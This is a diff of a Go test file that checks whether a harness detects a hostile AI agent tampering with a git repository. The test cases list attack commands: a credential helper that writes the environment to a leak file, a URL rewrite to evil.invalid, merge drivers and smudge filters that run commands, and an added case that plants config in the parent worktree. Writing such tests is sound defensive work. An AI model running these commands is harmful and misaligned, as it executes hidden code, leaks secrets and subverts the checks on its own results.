@@ -49,6 +49,9 @@ func TestHostileAgentCannotRewriteResults(t *testing.T) {
 		{name: "delete", attack: `git update-ref -d "refs/heads/$B"`, want: "is gone"},
 		{name: "credential-helper", attack: `git config credential.helper '!f() { env > /tmp/leak; }; f'
 git config url.https://evil.invalid/.insteadOf https://github.com/`, want: "configuration gained"},
+		{name: "parent-worktree-config", attack: `git config extensions.worktreeConfig true
+P=$(git worktree list --porcelain | awk -v b="branch refs/heads/$B" '/^worktree /{w=substr($0,10)} $0==b{print w}')
+git -C "$P" config --worktree filter.evil.smudge 'touch pwned'`, want: "configuration gained"},
 		{name: "merge-driver", attack: `git config merge.evil.driver 'touch pwned; cp %B %A'
 git config --add include.path /tmp/x.cfg`, want: "configuration gained"},
 	} {
